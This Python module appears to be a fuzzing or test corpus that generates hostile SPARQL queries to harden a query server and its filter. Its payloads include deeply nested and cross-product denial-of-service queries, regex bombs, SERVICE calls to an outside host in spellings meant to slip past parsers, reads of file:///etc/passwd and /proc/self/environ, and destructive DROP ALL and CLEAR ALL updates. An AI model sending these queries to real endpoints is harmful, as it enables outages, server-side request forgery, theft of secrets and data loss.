"""Two hundred queries that are out to stop a server, to fill it or to make it call others; and pieces to splice."""

from __future__ import annotations

import random
from collections.abc import Callable, Iterator
from itertools import cycle, islice

MANY = 200

CROSS = "?a ?b ?c . ?d ?e ?f . ?g ?h ?i . ?j ?k ?l"


def nested(n: int, elsewhere: str) -> str:
    """Brackets and operators inside each other, up to 3,000 deep."""
    deep = (3000, 23, 24, 25, 300)[(n + n // 15) % 5]
    return (
        f"SELECT * {'{' * deep} ?s ?p ?o {'}' * deep}",
        f"SELECT * {{ ?s ?p ?o {'OPTIONAL { ?s ?p ?o ' * deep}{'}' * deep} }}",
        f"SELECT * {{ FILTER({'(' * deep}1{')' * deep}) }}",
        f"ASK {{ FILTER({'!' * deep}true) }}",
        f"SELECT * {{ ?s {'(' * deep}kg:hasBrand{')' * deep} ?o }}",
        f"SELECT * {{ ?s ?p {'(' * deep} 1 {')' * deep} }}",
        f"SELECT * {{ ?s ?p {'[ ?p ' * deep} 1 {']' * deep} }}",
        f"SELECT * {{ FILTER({'EXISTS { FILTER(' * deep}true{')}' * deep}) }}",
        f"SELECT * {'{ SELECT * ' * deep}{{ ?s ?p ?o }}{'}' * deep}",
        f"SELECT * {{ {'{ ?s ?p ?o } UNION ' * deep}{{ ?s ?p ?o }} }}",
        f"SELECT * {{ FILTER(1 {'|| 1 ' * deep}) }}",
        f"SELECT * {{ BIND(1 {'+ 1 ' * deep}AS ?x) }}",
        f"SELECT * {{ ?s kg:hasBrand{'/kg:hasBrand' * deep} ?o }}",
        f"SELECT * {{ ?s {'^' * deep}kg:hasBrand ?o }}",
        f"SELECT * {{ {'MINUS { ?s ?p ?o ' * deep}{'}' * deep} }}",
    )[n % 15]


def cross_products(n: int, elsewhere: str) -> str:
    """Joins of everything with everything, counted, sorted, grouped or made distinct."""
    joined = CROSS + f" . ?m{n} ?n ?o" * (n // 12)
    return (
        f"SELECT (COUNT(*) AS ?n) {{ {joined} }}",
        f"SELECT * {{ {joined} }} ORDER BY ?a ?d DESC(?l)",
        f"SELECT DISTINCT ?a ?d ?g {{ {joined} }}",
        f"SELECT ?a (COUNT(DISTINCT ?l) AS ?n) {{ {joined} }} GROUP BY ?a ?d ORDER BY ?n",
        f"SELECT * {{ {joined} FILTER(?c = ?l && ?a != ?j) }}",
        f"CONSTRUCT {{ ?a ?e ?i }} WHERE {{ {joined} FILTER(?i > ?l) }}",
        f"ASK {{ {joined} FILTER(false) }}",
        f"SELECT * {{ {joined} }} OFFSET 2000000000",
        f"SELECT * {{ ?a ?b ?c OPTIONAL {{ ?d ?e ?f OPTIONAL {{ ?g ?h ?i FILTER(?i < {n}) }} }} }} ORDER BY ?i",
        f"SELECT * {{ {{ ?a ?b {n} }} UNION {{ ?d ?e ?f }} {{ ?g ?h ?i }} UNION {{ ?j ?k ?l }} ?m ?n ?o }} ORDER BY ?a",
        f"DESCRIBE * {{ {joined} }}",
        f"SELECT (MAX(?c) AS ?x) {{ {joined} }} HAVING(COUNT(*) < 0)",
    )[n % 12]


def doubled_strings(n: int, elsewhere: str) -> str:
    """A text that is twice as long with every step."""
    times = 20 + 3 * n
    steps = " ".join(f"BIND(CONCAT(?x{i}, ?x{i}) AS ?x{i + 1})" for i in range(times))
    last = (
        f"?x{times}",
        f"(STRLEN(?x{times}) AS ?n)",
        f"(SHA512(?x{times}) AS ?n)",
        f"(REPLACE(?x{times}, 'a', 'aaaaaaaaaa') AS ?n)",
        f"(ENCODE_FOR_URI(?x{times}) AS ?n)",
    )[n % 5]
    return f"SELECT {last} {{ BIND('{'a' * (1 + n)}' AS ?x0) {steps} }}"


def property_paths(n: int, elsewhere: str) -> str:
    """Closures over every edge, both ways."""
    step = (
        "(kg:followedBy|^kg:followedBy)",
        "(!kg:none)",
        "(!(kg:none|^kg:none))",
        "(kg:hasBrand/^kg:hasBrand)",
    )[n % 4]
    step = f"({step}|kg:n{n})"
    return (
        f"SELECT (COUNT(*) AS ?n) {{ ?a {step}* ?b . ?b {step}+ ?c . ?c {step}* ?d }}",
        f"SELECT * {{ ?a ({step}*)* ?b . ?c (({step}+)+)? ?d }} ORDER BY ?d",
        f"ASK {{ ?a {step}+ ?b . ?c {step}+ ?d FILTER(?a = ?d && ?b = ?c && ?a != ?a) }}",
        f"SELECT DISTINCT ?a ?d {{ ?a ({step}/{step})* ?b . ?c ({step}|{step}/{step})+ ?d }}",
    )[n // 4 % 4]


def regex_bombs(n: int, elsewhere: str) -> str:
    """Patterns that some engines try for ever, or whose programs are huge."""
    pattern = (
        "(a+)+$",
        "((a{1,100}){1,100}){1,100}",
        "(a|aa)+$",
        "(.*)*(.*)*(.*)*b",
        "(\\\\w{1,200}){200}",
        "(?:a?){99}a{99}",
    )
    filter = f"REGEX(CONCAT(STR(?c), STR(?f), '{'a' * (30 + n)}b'), '{pattern}', 'i')"
    return (
        f"SELECT * {{ ?a ?b ?c . ?d ?e ?f FILTER({filter}) }}",
        f"SELECT (REPLACE(STR(?c), '{pattern}', '$0$0{n}$0$0') AS ?x) {{ ?a ?b ?c . ?d ?e ?f }} ORDER BY ?x",
    )[n // 6 % 2]


def other_servers(n: int, elsewhere: str) -> str:
    """SERVICE in every spelling that a parser might take, and some that none should."""
    body = f"{{ ?s ?p {n} }}"
    return (
        f"SELECT * {{ SERVICE <{elsewhere}> {body} }}",
        f"SELECT * {{ service silent <{elsewhere}> {body} }}",
        f"SELECT * {{ SeRvIcE\t\n<{elsewhere}>{body} }}",
        f"SELECT * {{ SERVICE#\n<{elsewhere}>{body} }}",
        f"PREFIX : <{elsewhere}> SELECT * {{ SERVICE:b {body} }}",
        f"PREFIX a: <{elsewhere}> SELECT * {{ SERVICEa:b {body} }}",
        f"PREFIX SERVICE: <{elsewhere}> SELECT * {{ SERVICE SERVICE: {body} }}",
        f"SELECT * {{ BIND(<{elsewhere}> AS ?u) SERVICE ?u {body} }}",
        f"SELECT * {{ VALUES ?u {{ <{elsewhere}> }} SERVICE SILENT ?u {body} }}",
        f"SELECT * {{ \\u0053ERVICE <{elsewhere}> {body} }}",
        f"SELECT * {{ \\U00000053ERVICE <{elsewhere}> {body} }}",
        f"SELECT * {{ ?s ?p '''\n''' SERVICE <{elsewhere}> {body} }}",
        f"SELECT * {{ FILTER(?a<?b)SERVICE <{elsewhere}#>\n{body} }}",
        f"SELECT * {{ FILTER(?a<'>')SERVICE<{elsewhere}>{body} }}#'",
        f"SELECT * {{ ?s ?p ?o }} #\rSERVICE <{elsewhere}> {body}",
        f"SELECT * {{ OPTIONAL {{ SERVICE <{elsewhere}> {body} }} }}",
        f"SELECT * {{ {{ SELECT * {{ SERVICE <{elsewhere}> {body} }} }} }}",
        f"ASK {{ FILTER EXISTS {{ SERVICE <{elsewhere}> {body} }} }}",
        f"BASE <{elsewhere}> SELECT * {{ SERVICE <> {body} }}",
        f"BASE <{elsewhere}> SELECT * {{ SERVICE <//localhost/> {body} }}",
    )[n % 20]


def other_graphs(n: int, elsewhere: str) -> str:
    """Graphs that lie elsewhere, and changes of this one."""
    elsewhere = f"{elsewhere}{n}"
    file = ("file:///etc/passwd", "file:///proc/self/environ")[n // 14 % 2]
    return (
        f"SELECT * FROM <{file}> {{ ?s ?p ?o }}",
        f"SELECT * FROM NAMED <{file}> {{ GRAPH ?g {{ ?s ?p ?o }} }}",
        f"SELECT * FROM <{elsewhere}> {{ ?s ?p ?o }}",
        f"PREFIX : <{elsewhere}> SELECT * FROM:b {{ ?s ?p ?o }}",
        f"SELECT * {{ GRAPH <{elsewhere}> {{ ?s ?p ?o }} }}",
        f"LOAD <{elsewhere}>",
        f"LOAD <{file}> INTO GRAPH <a:b>",
        f"SELECT * {{ ?s ?p ?o }} ; LOAD SILENT <{elsewhere}>",
        "INSERT DATA { <a:a> <a:a> 1 }",
        "DELETE WHERE { ?s ?p ?o }",
        "WITH <a:a> DELETE { ?s ?p ?o } WHERE { ?s ?p ?o }",
        "SELECT * { ?s ?p ?o } ; CLEAR ALL",
        "DROP ALL",
        f"DESCRIBE <{elsewhere}>",
    )[n % 14]


def floods(n: int, elsewhere: str) -> str:
    """Much text in little room, or little text that makes much."""
    rows = (100, 390, 1500)[n % 3]
    return (
        f"SELECT * {{ VALUES ?x {{ {' '.join(map(str, range(rows)))} }} {CROSS} }}",
        " ".join(
            [
                "SELECT (COUNT(*) AS ?n) {",
                *(f"VALUES ?x{i} {{ {' '.join(map(str, range(50)))} }}" for i in range(min(rows // 20, 20))),
                "}",
            ]
        ),
        "SELECT (GROUP_CONCAT(?c; SEPARATOR='" + "x" * rows + f"') AS ?all) {{ {CROSS} }}",
        f"SELECT (GROUP_CONCAT(CONCAT(?c, ?f); SEPARATOR='{n}') AS ?all) {{ {CROSS} }} GROUP BY ?a",
        f"SELECT {' '.join(f'(?c AS ?c{i})' for i in range(rows // 2))} {{ ?a ?b ?c }}",
        f"SELECT * {{ ?s ?p {'1,' * rows}1 }}",
        f"SELECT * {{ ?a ?b ?c {'. ?c ?d ?e ' * (rows // 8)} }}",
        f"SELECT * {{ FILTER(?x IN ({', '.join(map(str, range(rows)))})) {CROSS} }}",
        f"SELECT (SUM(?c * ?f) AS ?s) (AVG(STRLEN(STR(?l))) AS ?m) (SAMPLE(?i) AS ?k{n}) {{ {CROSS} }} GROUP BY ?b ?e",
    )[n // 3 % 9]


def nonsense(n: int, elsewhere: str) -> str:
    """What is no query at all, in many scripts."""
    dice = random.Random(n)
    signs = "{}()[]<>\"'\\?$@^|/*+!=&;,.#: \n\t\r\x00\x0b\u202e\ufeff\u3000玫瑰ßΩ🌹SELECTASKWHEREFILTER\ud7ff"
    return "SELECT " * (n % 2) + "".join(dice.choice(signs) for _ in range(4 ** (n % 7)))


FAMILIES: tuple[Callable[[int, str], str], ...] = (
    nested,
    cross_products,
    doubled_strings,
    property_paths,
    regex_bombs,
    other_servers,
    other_graphs,
    floods,
    nonsense,
)


def attacks(elsewhere: str, many: int = MANY) -> Iterator[tuple[str, str]]:
    """So many hostile queries, each with the name of its family; `elsewhere` is an address that must not be called."""
    for place, family in enumerate(islice(cycle(FAMILIES), many)):
        yield family.__name__, family(place // len(FAMILIES), elsewhere)


def splices(pieces: list[str], seed: int) -> Iterator[str]:
    """Endless queries, each put together from parts of others, at random but for the seed.

    Half are of parts that begin and end anywhere, for gate and parser; half of whole patterns, for the engine.
    """
    dice = random.Random(seed)
    bodies = [text[text.index("{") + 1 : text.rindex("}")] for text in pieces if "{" in text and "}" in text]
    bodies = [body for body in bodies if 0 < len(body) < 1500]
    heads = (
        "SELECT *",
        "SELECT DISTINCT ?a ?c",
        "SELECT (COUNT(*) AS ?n)",
        "ASK",
        "CONSTRUCT { ?a ?b ?c } WHERE",
        "DESCRIBE *",
    )
    tails = ("", "ORDER BY ?a ?s", "LIMIT 10", "OFFSET 100000", "GROUP BY ?a", "HAVING(COUNT(*) > 1)")
    while True:
        if dice.random() < 0.5:
            some = dice.choices(bodies, k=dice.randint(1, 3))
            joined = dice.choice((" . ", " } UNION { ", " OPTIONAL { ?a ?b ?c } ", "\n")).join(some)
            yield f"{dice.choice(heads)} {{ {{ {joined} }} }} {dice.choice(tails)}"
            continue
        parts = []
        for text in dice.choices(pieces, k=dice.randint(2, 4)):
            ends = sorted(dice.randint(0, len(text)) for _ in range(2))
            parts.append(text[ends[0] : ends[1]] if dice.random() < 0.7 else text)
        yield "".join(parts)
